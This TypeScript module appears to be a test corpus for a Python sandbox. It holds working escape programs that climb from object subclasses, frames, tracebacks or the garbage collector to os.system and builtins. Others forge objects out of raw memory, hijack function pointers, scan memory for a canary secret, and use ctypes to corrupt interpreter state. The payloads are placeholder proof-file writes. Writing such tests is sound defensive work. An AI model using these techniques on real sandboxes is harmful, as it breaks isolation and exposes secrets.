/**
 * Programs that climb from any object to the interpreter's own, or forge objects out of bytes to
 * read and write its memory.
 */
import { programs, python } from './program.ts'

/**
 * Defines `object_at(address)`: takes it as a constant far behind an empty tuple, with nothing but
 * code.replace; and `memory()`.
 */
const forge = python`
  import opcode, struct
  WORD = struct.calcsize("P")
  def object_at(address):
      cell = struct.pack("P", address)
      offset = id(cell) + bytes.__basicsize__ - 1 - id(()) - tuple.__basicsize__
      index = offset // WORD & 0xFFFFFFFF
      def template():
          return 1
      E, L = opcode.opmap["EXTENDED_ARG"], opcode.opmap["LOAD_CONST"]
      body = [opcode.opmap["RESUME"], 0, E, index >> 24, E, index >> 16 & 255, E, index >> 8 & 255, L, index & 255,
              opcode.opmap["RETURN_VALUE"], 0]
      return type(template)(template.__code__.replace(co_code=bytes(body), co_consts=()), {})()
  kept = []
  def memory():
      half = 2 ** (8 * WORD - 1) - 1
      # refcount, type, size, allocated, bytes, start, exports: a bytearray over all memory from address 0
      body = struct.pack("nPnnPPn", 1 << 20, id(bytearray), half, half, 0, 0, 0)
      kept.append(body)
      return object_at(id(body) + bytes.__basicsize__ - 1)
`

const withForge = (code: string): string => forge + code

const climbs = programs('forged-objects', 'escape', {
  'subclasses-to-os': python`
    def solution():
        for t in object.__subclasses__():
            if t.__name__ == "_wrap_close":
                return t.__init__.__globals__["system"]("echo here > '{{proof}}'")
  `,
  'subclasses-to-builtins': python`
    def solution():
        for t in ().__class__.__base__.__subclasses__():
            scope = getattr(getattr(t.__init__, "__globals__", None), "get", lambda k: None)("__builtins__")
            if scope:
                opener = scope["open"] if isinstance(scope, dict) else scope.open
                return opener("{{canaryFile}}").read()
  `,
  'format-string': python`
    import os
    class Thing:
        def __init__(self):
            pass
    ans = "{0.__init__.__globals__[os].environ}".format(Thing())
  `,
  'frames-to-builtins': python`
    import sys
    def solution():
        frame = sys._getframe()
        while frame.f_back:
            frame = frame.f_back
        return frame.f_builtins["__import__"]("os").system("echo here > '{{proof}}'")
  `,
  'frames-to-sys': python`
    import sys
    def solution():
        frame, found = sys._getframe(), []
        while frame:
            for name, value in list(frame.f_globals.items()):
                module = getattr(value, "modules", {}).get("posix") if name == "sys" else None
                if module:
                    found.append(module.system("echo here > '{{proof}}'"))
            frame = frame.f_back
        return found
  `,
  'traceback-frames': python`
    def solution():
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame
            while frame.f_back:
                frame = frame.f_back
            return frame.f_globals["sys"].modules["os"].system("cp '{{canaryFile}}' '{{proof}}'")
  `,
  'generator-frames': python`
    def solution():
        def reader():
            yield generator.gi_frame.f_back.f_back
        generator = reader()
        frame = next(generator)
        while frame.f_back:
            frame = frame.f_back
        return frame.f_globals["sys"].modules["posix"].system("echo here > '{{proof}}'")
  `,
  'objects-of-the-collector': python`
    import gc
    def solution():
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "system" in thing and "fork" in thing:
                return thing["system"]("echo here > '{{proof}}'")
  `,
  'loader-of-builtins': python`
    def solution():
        return __builtins__["__loader__" if isinstance(__builtins__, dict) else 0].load_module("posix").system("echo here > '{{proof}}'") \
            if isinstance(__builtins__, dict) else __builtins__.__loader__.load_module("posix").system("echo here > '{{proof}}'")
  `,
  'without-builtins': python`
    def solution():
        scope = {"__builtins__": {}}
        exec("found = [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == 'BuiltinImporter']", scope)
        return scope["found"][0].load_module("posix").system("echo here > '{{proof}}'") if scope["found"] else "gone"
  `,
  'decorator-only': python`
    @exec
    @input
    class code:
        pass
    ans = code
  `,
})

const forgeries = programs('forged-objects', 'escape', {
  'search-all-memory': withForge(python`
    import gc
    def solution():
        view, found = memory(), []
        pages = {id(thing) >> 12 for thing in gc.get_objects()}
        for page in range(1, max(pages)) if WORD == 4 else sorted(pages):
            piece = bytes(view[page << 12 : (page + 1) << 12])
            at = piece.find(b"{{canaryVariable}}=")
            if at >= 0:
                found.append(piece[at : at + 100])
        return found
  `),
  'wild-method-pointer': withForge(python`
    def solution():
        view = memory()
        method = id(len)
        definition = int.from_bytes(view[method + 2 * WORD : method + 3 * WORD], "little")
        pointer = definition + WORD
        kept_pointer = bytes(view[pointer : pointer + WORD])
        for entry in range(1, 400):
            view[pointer : pointer + WORD] = entry.to_bytes(WORD, "little")
            try:
                len("echo here > '{{proof}}'")
            except Exception:
                pass
        view[pointer : pointer + WORD] = kept_pointer
        return "called"
  `),
  'method-of-another': withForge(python`
    import posix
    def solution():
        view = memory()
        def definition(function):
            return int.from_bytes(view[id(function) + 2 * WORD : id(function) + 3 * WORD], "little")
        view[definition(len) : definition(len) + 4 * WORD] = bytes(view[definition(posix.getpid) : definition(posix.getpid) + 4 * WORD])
        return len([1]), abs(-1)
  `),
  'forged-type': withForge(python`
    def solution():
        view = memory()
        body = bytes(view[id(type(len)) : id(type(len)) + 100 * WORD])
        fake = bytearray(body)
        for slot in range(6, 60):
            fake[slot * WORD : slot * WORD + WORD] = (slot * 7).to_bytes(WORD, "little")
        frozen = bytes(fake)
        thing = struct.pack("nPnnnn", 1 << 20, id(frozen) + bytes.__basicsize__ - 1, 0, 0, 0, 0)
        kept.extend((frozen, thing))
        forged = object_at(id(thing) + bytes.__basicsize__ - 1)
        return forged("echo here > '{{proof}}'")
  `),
  'freed-buffer': python`
    import io
    def solution():
        held = []
        class File(io.RawIOBase):
            def readinto(self, buffer):
                held.append(buffer)
                return 0
            def readable(self):
                return True
        reader = io.BufferedReader(File())
        reader.read(1)
        del reader
        view = held[0].cast("P")
        lists = [None] * len(view)
        view[0] = id(bytearray)
        return repr(lists[:3])
  `,
  'freed-while-indexed': python`
    def solution():
        target = bytearray(b"A" * 4096)
        class Index:
            def __index__(self):
                target.clear()
                return 65
        target[4000] = Index()
        return "ok"
  `,
  'freed-while-joined': python`
    def solution():
        parts = [bytearray(100) for _ in range(100)]
        class Part(bytearray):
            pass
        def items():
            for part in parts:
                yield part
                parts.clear()
        return len(b"".join(items()))
  `,
  'size-of-a-tuple': withForge(python`
    def solution():
        body = struct.pack("nPnnP", 1 << 20, id(tuple), 1 << 20, -1, id(None))
        kept.append(body)
        long = object_at(id(body) + bytes.__basicsize__ - 1)
        return [repr(type(long[i])) for i in range(1, 50)]
  `),
})

const writes = programs('forged-objects', 'poison', {
  'small-integers': withForge(python`
    def solution():
        view = memory()
        at = id(7) + int.__basicsize__ - (8 if WORD == 8 else 0)
        for offset in range(2 * WORD, int.__basicsize__ + 4, 4):
            if int.from_bytes(view[id(7) + offset : id(7) + offset + 4], "little") == 7:
                view[id(7) + offset : id(7) + offset + 4] = (8).to_bytes(4, "little")
        return "ok"
  `),
  'interned-text': withForge(python`
    def solution():
        view = memory()
        for word in ("append", "status", "split", "value", "upper"):
            where = bytes(view[id(word) : id(word) + 80]).find(word.encode())
            view[id(word) + where : id(word) + where + 2] = b"zz"
        return "ok"
  `),
  'type-slots': withForge(python`
    def solution():
        view = memory()
        for slot in range(6, 50):
            a = int.from_bytes(view[id(int) + slot * WORD : id(int) + slot * WORD + WORD], "little")
            b = int.from_bytes(view[id(bool) + slot * WORD : id(bool) + slot * WORD + WORD], "little")
            if a and b:
                view[id(int) + slot * WORD : id(int) + slot * WORD + WORD] = b.to_bytes(WORD, "little")
        return "ok"
  `),
  'method-definitions': withForge(python`
    def solution():
        view = memory()
        def definition(function):
            return int.from_bytes(view[id(function) + 2 * WORD : id(function) + 3 * WORD], "little")
        for one, other in ((abs, len), (repr, ascii), (bin, hex), (any, all)):
            view[definition(one) : definition(one) + 2 * WORD] = bytes(view[definition(other) : definition(other) + 2 * WORD])
        return "ok"
  `),
  'heap-swept': withForge(python`
    def solution():
        view = memory()
        middle = id(kept)
        view[middle + 4096 : middle + 65536] = bytes(61440)
        return "ok"
  `),
  'truth-is-false': withForge(python`
    def solution():
        view = memory()
        size = int.__basicsize__ + 4
        view[id(True) + 2 * WORD : id(True) + size] = bytes(view[id(False) + 2 * WORD : id(False) + size])
        return "ok"
  `),
  'dictionary-of-int': python`
    import gc
    def solution():
        raw = gc.get_referents(int.__dict__)[0]
        raw["__add__"] = raw["__sub__"]
        raw["bit_length"] = lambda self: 666
        return "ok"
  `,
  'dictionary-through-equality': python`
    class Thief:
        def __eq__(self, other):
            self.stolen = other
            return True
    def solution():
        thief = Thief()
        list.__dict__ == thief
        thief.stolen["append"] = lambda self, item: None
        str.__dict__ == thief
        thief.stolen["upper"] = lambda self: "dirty"
        return "ok"
  `,
  'dictionary-through-union': python`
    class Thief(dict):
        def __ror__(self, other):
            self.stolen = other
            return self
    def solution():
        thief = Thief()
        float.__dict__ | thief
        thief.stolen["is_integer"] = lambda self: True
        thief.stolen["__round__"] = lambda *a: 666
        return "ok"
  `,
  'tuple-in-the-making': python`
    import gc
    def solution():
        marker = object()
        def items():
            yield marker
            for holder in gc.get_referrers(marker):
                if isinstance(holder, tuple):
                    kept.append(holder)
            yield from range(20)
        kept = []
        made = tuple(items())
        return len(made), [len(k) for k in kept]
  `,
  'ctypes-small-integers': python`
    import ctypes
    def solution():
        at = 2 * ctypes.sizeof(ctypes.c_void_p) + ctypes.sizeof(ctypes.c_size_t)
        for small in range(2, 200):
            ctypes.memset(id(small) + at, small + 1, 1)
        return "ok"
  `,
  'ctypes-single-characters': python`
    import ctypes
    def solution():
        for letter in "abcdefghijklmnopqrstuvwxyz":
            size = letter.__sizeof__()
            ctypes.memset(id(letter) + size - 2, ord("z"), 1)
        return "ok"
  `,
  'ctypes-none': python`
    import ctypes
    def solution():
        ctypes.c_size_t.from_address(id(None) + ctypes.sizeof(ctypes.c_void_p)).value = id(int)
        return "ok"
  `,
  'ctypes-free': python`
    import ctypes
    def solution():
        for thing in (json_key := "status", (), "ok", 1.5):
            ctypes.pythonapi.Py_DecRef(ctypes.py_object(thing))
        return "ok"
  `,
  'ctypes-immortal': python`
    import ctypes
    def solution():
        for singleton in (None, True, (), "", b""):
            ctypes.c_uint32.from_address(id(singleton)).value = 1
        return "ok"
  `,
  'ctypes-thread-state': python`
    import ctypes
    def solution():
        state = ctypes.pythonapi.PyThreadState_Get
        state.restype = ctypes.c_void_p
        ctypes.memset(state(), 0, 64)
        return "ok"
  `,
})

export const forgedObjects = [...climbs, ...forgeries, ...writes]
